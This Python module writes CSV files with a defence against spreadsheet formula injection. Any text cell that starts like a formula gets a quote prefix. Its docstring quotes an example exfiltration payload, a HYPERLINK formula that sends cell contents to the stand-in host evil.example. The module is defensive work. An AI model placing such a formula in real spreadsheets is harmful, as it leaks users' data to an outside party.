"""CSV that a spreadsheet opens as data, never as formulas: every CSV Formwork writes goes through here.

Excel, LibreOffice and Google Sheets run a cell that begins with `=`, `+`, `-` or `@` as a formula
(a leading tab or carriage return is stripped first), and what Formwork writes comes from the texts it
reads: a record's key, a value grounded in a message, an error that quotes one. A message holding
`=HYPERLINK("http://evil.example/?"&A1, "invoice")` became a live link that sends the sheet's cells
away when clicked. OWASP's guidance (CSV Injection) is to prefix such a cell with `'`, which the
spreadsheet shows as text and does not run. Text is prefixed, whatever follows the sign ("-12.5"
written as a JSON string is text there and here); a number stays a number: -12.5 from a JSON number is
written as `-12.5`, which no spreadsheet runs, and prefixing it would turn a number into text.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def text_cell(value: Any) -> Any:
    """`value` as a cell a spreadsheet will not run: text that starts like a formula gets a `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class Writer:
    """`csv.writer`, with every cell passed through `text_cell`."""

    def __init__(self, stream: TextIO):
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([text_cell(value) for value in row])
